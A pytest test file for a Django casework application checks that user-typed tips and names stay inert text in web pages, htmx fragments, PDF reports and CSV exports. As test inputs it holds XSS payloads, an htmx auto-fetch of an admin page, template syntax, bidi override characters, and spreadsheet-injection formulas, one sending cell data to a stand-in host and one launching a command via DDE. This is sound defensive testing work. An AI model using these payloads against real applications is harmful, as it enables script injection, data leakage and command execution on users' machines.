"""Whatever is typed stays text: escaped in every page and fragment, inert in the PDFs, and
text in the CSV files (a formula gets a quote in front, everything else reads back as it was).

Tips hold script, an image with an error handler, htmx attributes that would fetch a page,
template syntax, direction overrides, zero-width characters, emoji, spreadsheet formulas; a
follow-up holds 10 000 characters. Nothing of it runs, fetches, calculates, or turns the page
around.
"""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from django.urls import reverse
from pypdf import PdfReader

from sessions.models import Step, Tip, TipOutcome
from sessions.services.follow_up import record_outcome
from sessions.services.live import go_to_step
from sessions.services.tips import choose_tip
from tests.clients import HTMX, english_client
from tests.factories import TipFactory

HOSTILE = [
    "<script>alert('tip')</script>",
    '<img src=x onerror="alert(1)">',
    '<a hx-get="/admin/" hx-trigger="load" hx-target="body">klik</a>',
    "{{ request.user.password }} {% csrf_token %}",
    "Wandelen \u202egnirts desrever\u202c met de hond",
    "Zero\u200bwidth\u2060joiner",
    "Samen eten 🍲 met het gezin 👨\u200d👩\u200d👧 🐕",
]
LONG = "Waarom het niet lukte. " * 435  # 10 005 characters


@pytest.fixture
def tips(case, facilitator):
    go_to_step(case=case, step=Step.TIPS)
    client = english_client(facilitator)
    goal, columns = case.goals.first(), list(case.meeting.network.matrix.columns.all())
    # Spread over the row's cells: the beamer shows a cell's newest few (steps.py).
    for n, text in enumerate(HOSTILE):
        column = columns[n % len(columns)]
        response = client.post(
            reverse("casework:add_tip", args=[case.pk]),
            {"key": str(uuid.uuid4()), "text": text, "domain": goal.domain_id, "column": column.pk},
            **HTMX,
        )
        assert response.status_code == 200
    stored = list(Tip.objects.filter(case=case).order_by("pk"))
    choose_tip(tip=stored[0], chosen=True, action_what="<b>vet</b>")
    record_outcome(tip=stored[0], tried=True, result="worked", why=LONG)
    return stored


def test_hostile_tips_are_stored_as_text_without_invisible_controls(tips):
    texts = [tip.text for tip in tips]
    assert texts[0] == HOSTILE[0]
    assert texts[4] == "Wandelen gnirts desrever met de hond"  # the override is gone
    assert texts[5] == "Zerowidthjoiner"
    assert "👨\u200d👩\u200d👧" in texts[6]  # the family emoji keeps its joiners


@pytest.mark.parametrize(
    "view", ["casework:console", "casework:review", "casework:beamer", "casework:beamer_poll"]
)
def test_hostile_text_is_escaped_in_pages_and_fragments(tips, case, facilitator, view):
    client = english_client(facilitator)
    pk = case.meeting_id if view.startswith("casework:beamer") else case.pk
    extra = HTMX if view.endswith("poll") else {}
    html = client.get(reverse(view, args=[pk]), **extra).content.decode()
    assert "<script>alert" not in html and "&lt;script&gt;alert(&#x27;tip&#x27;)" in html
    assert "<img src=x" not in html and "&lt;img src=x onerror=" in html
    assert 'hx-get="/admin/"' not in html and "hx-get=&quot;/admin/&quot;" in html
    assert "{{ request.user.password }}" in html  # shown, never evaluated
    assert "\u202e" not in html and "\u200b" not in html
    assert "🍲" in html


def test_the_step_panel_fragment_escapes_too(tips, case, facilitator):
    go_to_step(case=case, step=Step.CLOSING)
    response = english_client(facilitator).get(reverse("casework:console", args=[case.pk]), **HTMX)
    html = response.content.decode()
    assert html.lstrip().startswith('<section id="panel"')  # the fragment, not the page
    assert "<script>alert" not in html and "<b>vet</b>" not in html
    assert "&lt;b&gt;vet&lt;/b&gt;" in html


def pdf_text(content: bytes) -> str:
    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def pdf_fonts(content: bytes) -> set[str]:
    fonts = set()
    for page in PdfReader(io.BytesIO(content)).pages:
        for font in (page["/Resources"].get("/Font") or {}).values():
            fonts.add(str(font.get_object()["/BaseFont"]))
    return fonts


@pytest.mark.parametrize("report", ["reports:case_pdf", "reports:meeting_pdf"])
def test_hostile_text_prints_as_text_in_the_pdfs_with_emoji(tips, case, facilitator, report):
    pk = case.pk if report == "reports:case_pdf" else case.meeting_id
    response = english_client(facilitator).get(reverse(report, args=[pk]))
    assert response.status_code == 200
    text = " ".join(pdf_text(response.content).split())
    assert "<script>alert('tip')</script>" in text
    assert "{{ request.user.password }}" in text
    assert "🍲" in text and "🐕" in text
    assert any("Symbola" in font for font in pdf_fonts(response.content)), "no emoji font"
    if report == "reports:case_pdf":
        assert text.count("Waarom het niet lukte.") >= 400  # all 10 000 characters printed


# CSV files: every cell reads back as typed; a formula is text -------------------------------

# What a spreadsheet would calculate: a link that sends the sheet's data away, a command.
FORMULAS = [
    '=HYPERLINK("https://voorbeeld.example/?"&A1;"Klik hier")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def client_csv(case, coordinator) -> list[dict[str, str]]:
    url = reverse("casework:client_export", args=[case.client_id])
    return read_csv(english_client(coordinator).get(url))


def add_tips(case, facilitator, texts) -> None:
    client = english_client(facilitator)
    goal, column = case.goals.first(), case.meeting.network.matrix.columns.first()
    for text in texts:
        response = client.post(
            reverse("casework:add_tip", args=[case.pk]),
            {"key": str(uuid.uuid4()), "text": text, "domain": goal.domain_id, "column": column.pk},
            **HTMX,
        )
        assert response.status_code == 200
        assert Tip.objects.filter(case=case, text=text).exists(), text


def test_hostile_text_reads_back_unchanged_from_the_client_csv(tips, case, coordinator):
    rows = client_csv(case, coordinator)
    in_file = [row["Text"] for row in rows if row["Kind"] == "tip"]
    # As stored, in the placemat's order (domain, column, then as given).
    placemat_order = sorted(tips, key=lambda tip: (tip.column.order, tip.pk))
    assert in_file == [tip.text for tip in placemat_order]
    untouched = [text for text in HOSTILE if "\u202e" not in text and "\u200b" not in text]
    assert set(untouched) <= set(in_file)  # what was typed, character for character
    chosen = next(row for row in rows if row["Kind"] == "tip" and row["Text"] == HOSTILE[0])
    assert chosen["Action: what"] == "<b>vet</b>"
    follow_up = next(row for row in rows if row["Kind"] == "follow-up")
    # All 10 000 characters in one cell (as stored: the service trims the last space).
    assert follow_up["Why"] == TipOutcome.objects.get().why == LONG.strip()
    assert len(follow_up["Why"]) > 10_000


def test_formula_cells_are_text_in_the_client_csv(case, facilitator, coordinator):
    go_to_step(case=case, step=Step.TIPS)
    add_tips(case, facilitator, FORMULAS)
    # What a form would not keep (it trims), stored as the admin could: a tab, a carriage
    # return or spaces before the formula.
    hidden_starts = ["\t=1+1", "\r=1+1", "  =1+1"]
    for text in hidden_starts:
        TipFactory(case=case, text=text)
    case.question = "=1+1\nwat denkt de groep?"
    case.save()

    rows = client_csv(case, coordinator)
    in_file = [row["Text"] for row in rows if row["Kind"] == "tip"]
    assert in_file == ["'" + text for text in [*FORMULAS, *hidden_starts]]
    question = next(row["Text"] for row in rows if row["Field"] == "Question to the group")
    assert question == "'=1+1\nwat denkt de groep?"
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
    )


def test_hostile_names_are_text_in_the_access_log_csv(case, coordinator):
    from tests.guests import join_as

    go_to_step(case=case, step=Step.TIPS)
    names = [FORMULAS[0][:60], "<img src=x onerror=alert(1)>"]
    for name in names:
        phone = join_as(case.meeting, name)
        assert phone.get(reverse("casework:phone", args=[case.meeting_id])).status_code == 200
    url = reverse("accounts:access_log_csv", args=[case.meeting.network_id])
    who = [row["Who"] for row in read_csv(english_client(coordinator).get(url))]
    guest = {guest.display_name: guest.pk for guest in case.meeting.guests.all()}
    assert f"'{names[0]} (guest {guest[names[0]]})" in who
    assert f"{names[1]} (guest {guest[names[1]]})" in who
